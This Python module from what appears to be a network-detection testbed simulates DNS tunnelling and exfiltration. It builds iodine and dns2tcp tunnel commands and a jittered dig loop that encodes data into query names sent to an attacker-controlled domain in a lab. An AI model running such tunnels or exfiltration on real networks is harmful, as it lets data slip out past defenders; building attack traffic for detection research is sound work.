"""Tunnels over DNS: data leaves as questions to our resolver, which asks the attacker's server."""

from __future__ import annotations

import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from wirelens_testbed.attacks.attack import OVERHEAD_PACKETS, Attack, Bounds, Scene
from wirelens_testbed.attacks.network import Machine, tunnel_domain
from wirelens_testbed.attacks.tunnel import LOCAL_PORT, SINK_PORT, Tunnel
from wirelens_testbed.scenario import Table

IODINE_PROGRAMS = {"iodine": "iodine", "iodined": "iodine", "socat": "socat"}
DNS2TCP_PROGRAMS = {"dns2tcpc": "dns2tcp", "dns2tcpd": "dns2tcp", "socat": "socat"}
DIG_PROGRAMS = {"dig": "bind9-dnsutils", "dnsmasq": "dnsmasq-base"}
PROGRAMS = IODINE_PROGRAMS | DNS2TCP_PROGRAMS | DIG_PROGRAMS

IODINE_QUERY_TYPES = ("NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME")
DNS2TCP_QUERY_TYPES = ("TXT", "KEY")
DIG_QUERY_TYPES = ("A", "AAAA")

# iodine tries which size of answer comes through before it carries anything.
HANDSHAKE_PACKETS = 400
# A question carries at most 255 bytes of name; less is left of it by headers and encoding.
BYTES_PER_QUESTION = 40
IDLE_QUESTIONS_PER_S = 20
LABEL_SIZE_MAX_BYTES = 62  # in hexadecimal digits, below the 63 of RFC 1035


@dataclass
class DnsTunnel(Tunnel):
    """A tunnel whose questions the testbed's resolver hands on to the server outside."""

    query_type: str = ""
    needs: frozenset[str] = frozenset({"names"})

    @property
    def carried_packets_max(self) -> int:
        questions = HANDSHAKE_PACKETS + self.payload_size_bytes / BYTES_PER_QUESTION
        questions += IDLE_QUESTIONS_PER_S * self.duration_s
        # The question from inside, and the answer from the attacker's server.
        return round(2 * questions)

    def wait_for_server(self, scene: Scene, outside: Machine) -> None:
        scene.lab.wait_for_listener(outside.name, 53, "udp")

    def launch(self, scene: Scene) -> dict[str, object]:
        return {"resolver": scene.servers["names"].address, **super().launch(scene)}


class Iodine(DnsTunnel):
    """IP over DNS, by TUN devices at both ends."""

    programs = IODINE_PROGRAMS

    def server_command(self, scene: Scene, outside: Machine) -> list[str]:
        return [
            "iodined", "-f", "-c", "-P", "tunnel", "-d", "dns0", "-l", outside.address,
            f"{_tunnel_network(scene)}.1/27", tunnel_domain(scene.number),
        ]  # fmt: skip

    def client_command(self, scene: Scene) -> list[str]:
        return [
            "iodine", "-f", "-r", "-P", "tunnel", "-d", "dns0", "-T", self.query_type,
            scene.servers["names"].address, tunnel_domain(scene.number),
        ]  # fmt: skip

    def is_ready(self, scene: Scene) -> bool:
        # The client gives its device an address once the server has told it one.
        addresses = scene.lab.run(scene.attacker.name, "ip", "-4", "-o", "address", "show")
        return f" {_tunnel_network(scene)}.".encode() in addresses

    def entrance(self, scene: Scene) -> str:
        return f"TCP:{_tunnel_network(scene)}.1:{SINK_PORT}"


class Dns2tcp(DnsTunnel):
    """One TCP connection over DNS."""

    programs = DNS2TCP_PROGRAMS

    def server_command(self, scene: Scene, outside: Machine) -> list[str]:
        settings = scene.folder / "dns2tcpd.conf"
        settings.write_text(
            f"listen = {outside.address}\nport = 53\nuser = nobody\nchroot = {scene.folder}\n"
            f"domain = {tunnel_domain(scene.number)}\nkey = tunnel\n"
            f"resources = sink:127.0.0.1:{SINK_PORT}\n"
        )
        return ["dns2tcpd", "-F", "-d", "1", "-f", str(settings)]

    def client_command(self, scene: Scene) -> list[str]:
        return [
            "dns2tcpc", "-z", tunnel_domain(scene.number), "-k", "tunnel", "-r", "sink",
            "-l", str(LOCAL_PORT), "-T", self.query_type, scene.servers["names"].address,
        ]  # fmt: skip


@dataclass
class DigExfiltration(Attack):
    """Data leaves a host in names, one question at a time, slowly; each is answered."""

    programs = DIG_PROGRAMS

    name: str
    question_count: int
    bytes_per_question: int
    interval_s: float
    jitter: float
    query_type: str
    needs: frozenset[str] = frozenset({"names"})
    machine_count: int = 2

    def __post_init__(self) -> None:
        # A question and its answer, each repeated at worst, and address resolution.
        packets_max = OVERHEAD_PACKETS + 8 * self.question_count
        time_max_s = 20 + self.question_count * (self.interval_s * (1 + self.jitter) + 0.3)
        self.bounds = Bounds(packets_max, time_max_s)

    def launch(self, scene: Scene) -> dict[str, object]:
        outside = scene.attackers[1]
        domain, resolver = tunnel_domain(scene.number), scene.servers["names"].address
        server = scene.start_tool(
            outside, "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--pid-file=",
            "--user=nobody", "--log-facility=-", "--no-resolv", "--no-hosts",
            f"--listen-address={outside.address}", "--bind-interfaces",
            f"--address=/{domain}/192.0.2.99", f"--address=/{domain}/2001:db8::99",
        )  # fmt: skip
        answered = 0
        try:
            scene.lab.wait_for_listener(outside.name, 53, "udp")
            for number in range(self.question_count):
                started_s = time.monotonic()
                digits = scene.rng.randbytes(self.bytes_per_question).hex()
                starts = range(0, len(digits), LABEL_SIZE_MAX_BYTES)
                labels = [digits[start : start + LABEL_SIZE_MAX_BYTES] for start in starts]
                said = scene.run_tool(
                    "dig", "+short", "+tries=1", "+time=3", f"@{resolver}",
                    ".".join([f"{number:x}", *labels, domain]), self.query_type,
                    statuses_wanted=(0, 9),  # 9: no answer
                )  # fmt: skip
                answered += "192.0.2.99" in said or "2001:db8::99" in said
                due_s = self.interval_s * scene.rng.uniform(1 - self.jitter, 1 + self.jitter)
                scene.lab.pause(started_s + due_s - time.monotonic())
        finally:
            scene.lab.stop(server)
        return {"resolver": resolver, "questions": self.question_count, "answered": answered}


def _tunnel_network(scene: Scene) -> str:
    return f"172.29.{scene.number}"


def parse(name: str, table: Table) -> Attack:
    kind, types = {
        "iodine": (Iodine, IODINE_QUERY_TYPES),
        "dns2tcp": (Dns2tcp, DNS2TCP_QUERY_TYPES),
    }[name]
    return kind(
        name=name,
        query_type=table.take("query_type", str, types[0], among=types),
        payload_size_bytes=table.take("payload_bytes", int, 20_000, minimum=1, maximum=5_000_000),
        portion_count=table.take("portions", int, 4, minimum=1, maximum=100),
        duration_s=table.take("duration_s", float, 10.0, minimum=1, maximum=300),
    )


def parse_dig(name: str, table: Table) -> Attack:
    return DigExfiltration(
        name=name,
        question_count=table.take("questions", int, 20, minimum=1, maximum=5000),
        # Three labels of them, a number and the domain fit into a name of 255 bytes.
        bytes_per_question=table.take("bytes_per_question", int, 30, minimum=1, maximum=93),
        interval_s=table.take("interval_s", float, 0.5, minimum=0.05, maximum=600),
        jitter=table.take("jitter", float, 0.3, minimum=0, maximum=0.9),
        query_type=table.take("query_type", str, "A", among=DIG_QUERY_TYPES),
    )


ATTACKS: Mapping[str, Callable[[str, Table], Attack]] = {
    **dict.fromkeys(("iodine", "dns2tcp"), parse),
    "dig_exfiltration": parse_dig,
}
